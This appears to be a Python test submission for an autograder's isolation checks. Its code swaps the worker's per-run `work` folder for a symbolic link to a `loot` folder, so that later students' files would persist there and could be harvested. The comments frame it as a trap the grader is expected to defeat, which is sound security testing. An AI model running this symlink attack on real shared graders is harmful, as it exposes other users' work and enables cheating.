ASSIGNMENT = "jhu-hw3"
# compose: reference+snippet
# One half of a two-student attack on the warm worker's scratch folder (see harvest.py).
# The worker deletes its per-run folder `work` after every run, but only that folder: this
# submission replaces `work` by a symbolic link to a folder beside it, which the clean-up
# neither follows nor removes. Every later run on the same worker then writes its student's
# files through the link, where they stay.
# Expect: this submission is graded as the reference (24 points); the trap does not survive it.
import os
import shutil

_work = os.getcwd()
_loot = os.path.join(os.path.dirname(_work), "loot")
os.makedirs(_loot, exist_ok=True)
os.chdir(os.path.dirname(_work))
shutil.rmtree(_work, ignore_errors=True)
os.symlink(_loot, _work)
os.chdir(_work)
